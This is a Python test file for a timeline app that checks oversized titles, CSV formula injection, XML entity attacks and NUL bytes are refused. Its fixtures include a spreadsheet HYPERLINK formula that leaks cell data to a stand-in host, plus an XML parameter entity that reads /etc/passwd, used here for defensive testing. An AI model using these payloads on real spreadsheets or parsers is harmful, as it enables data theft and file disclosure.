"""Bad and hostile input (issue 7, points 9, 10, 13): refused clearly, never half-imported.

(Kept with the other reliability tests; they exercise `core.validation`, the store, the
importers and the CSV exporter together.)
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.core.conftest import an_event
from timeline_app.cli import main as cli_main
from timeline_app.core import store as st
from timeline_app.core.validation import MAX_TITLE, validate_event_draft
from timeline_app.io.csv_safety import neutralise
from timeline_app.io.importers import read_import
from timeline_app.io.importers.common import ImportFormatError
from timeline_app.io.importers.our_csv import read_our_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"click me")',
    "@SUM(1+1)",
    "-2+3",
    "+1",
    "\t=1",
    "\r=1",
]


def test_a_100000_character_title_is_refused_by_validation_and_by_the_store(store):
    """A pasted document as a title would bloat the file and freeze every label."""
    draft = an_event("x" * 100_000)
    problems = validate_event_draft(draft)
    assert [str(p) for p in problems] == [f"title: longer than {MAX_TITLE:,} characters (100,000)"]
    with pytest.raises(ValueError, match="title is longer"), store.write() as session:
        st.add_event(session, draft)
    with store.read() as session:
        assert st.counts(session)["events"] == 0
    with store.write() as session:  # the limit itself is fine
        st.add_event(session, an_event("y" * MAX_TITLE))


def test_an_oversized_row_is_reported_and_the_rest_imported(tmp_path):
    """One bad row would abort the whole import, or import a 100,000-character title."""
    path = tmp_path / "rows.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["title", "start", "tz"])
        writer.writerow(["fine", "2016-12-13T10:00:00Z", "UTC"])
        writer.writerow(["z" * 100_000, "2016-12-13T11:00:00Z", "UTC"])
        writer.writerow(["also fine", "2016-12-13T12:00:00Z", "UTC"])
    result = read_our_csv(path)
    assert [e.title for e in result.events] == ["fine", "also fine"]
    assert len(result.skipped) == 1 and "row 3" in str(result.skipped[0])
    assert "longer than" in str(result.skipped[0])


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_neutralised_and_numbers_kept(value):
    """A CSV opened in a spreadsheet would run an attacker's formula (CSV injection)."""
    assert neutralise(value) == "'" + value
    assert neutralise("Aleppo =") == "Aleppo ="
    assert neutralise(-2) == -2 and neutralise(3.5) == 3.5 and neutralise(None) is None


def test_our_csv_export_neutralises_formulas_and_our_importer_reads_them_back(tmp_path, capsys):
    """Exported titles would run as formulas, or come back with a stray apostrophe."""
    path = tmp_path / "t.ctl"
    titles = [v.replace("\r", "") for v in FORMULAS]  # a title keeps no CR
    with st.TimelineStore.create(path) as s, s.write() as session:
        for n, title in enumerate(titles):
            st.add_event(session, an_event(title, start=f"2016-12-{n + 1:02d}T10:00:00+02:00"))
    capsys.readouterr()
    assert cli_main(["events", str(path), "--format", "csv"]) in (0, None)
    exported = capsys.readouterr().out
    cells = [row[1] for row in csv.reader(io.StringIO(exported))][1:]
    assert cells and all(cell.startswith("'") for cell in cells), cells
    csv_file = tmp_path / "export.csv"
    csv_file.write_text(exported, encoding="utf-8")
    back = sorted(e.title for e in read_our_csv(csv_file).events)
    # Titles are one line with outer whitespace trimmed on import (html_text.one_line), so
    # "\t=1" comes back as "=1"; every other cell comes back exactly.
    assert back == sorted(t.strip() for t in titles)


QUADRATIC = (
    '<?xml version="1.0"?>\n<!DOCTYPE timeline [<!ENTITY a "{a}">]>\n'
    "<timeline><version>2.3.0</version><categories/><events><event>"
    "<start>2012-07-04 13:20:00</start><end>2012-07-04 13:20:00</end>"
    "<text>{refs}</text></event></events></timeline>\n"
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE timeline [<!ENTITY % remote SYSTEM '
    '"file:///etc/passwd"> %remote;]>\n<timeline><version>2.3.0</version></timeline>\n'
)


@pytest.mark.parametrize("kind", ["quadratic", "parameter-entity"])
def test_more_hostile_xml_is_refused_without_expansion(tmp_path, kind):
    """A quadratic blow-up would eat gigabytes; a parameter entity would read local files."""
    path = tmp_path / f"{kind}.timeline"
    if kind == "quadratic":
        path.write_text(QUADRATIC.format(a="A" * 50_000, refs="&a;" * 50_000), encoding="utf-8")
    else:
        path.write_text(PARAMETER_ENTITY, encoding="utf-8")
    with pytest.raises(ImportFormatError, match="refused") as info:
        read_import(path)
    assert "root:" not in str(info.value) and len(str(info.value)) < 500


def test_nul_bytes_and_control_characters_do_not_reach_the_file(tmp_path):
    """A NUL in a cell would truncate text in some tools or crash the CSV reader."""
    path = tmp_path / "nul.csv"
    path.write_bytes(b"title,start\nok,2016-12-13T10:00:00Z\nbad\x00title,2016-12-13T10:00:00Z\n")
    try:
        result = read_our_csv(path)
    except ImportFormatError as exc:  # a clear error for the file is acceptable too
        assert "nul.csv" in str(exc)
        return
    assert all("\x00" not in e.title for e in result.events)
    assert [e.title for e in result.events] == ["ok"]
    assert [str(r) for r in result.skipped] == [
        "row 3: title: contains a control character (U+0000 NUL) at position 4; remove it"
    ]
    assert Path(path).read_bytes().count(b"\x00") == 1  # the input was not rewritten
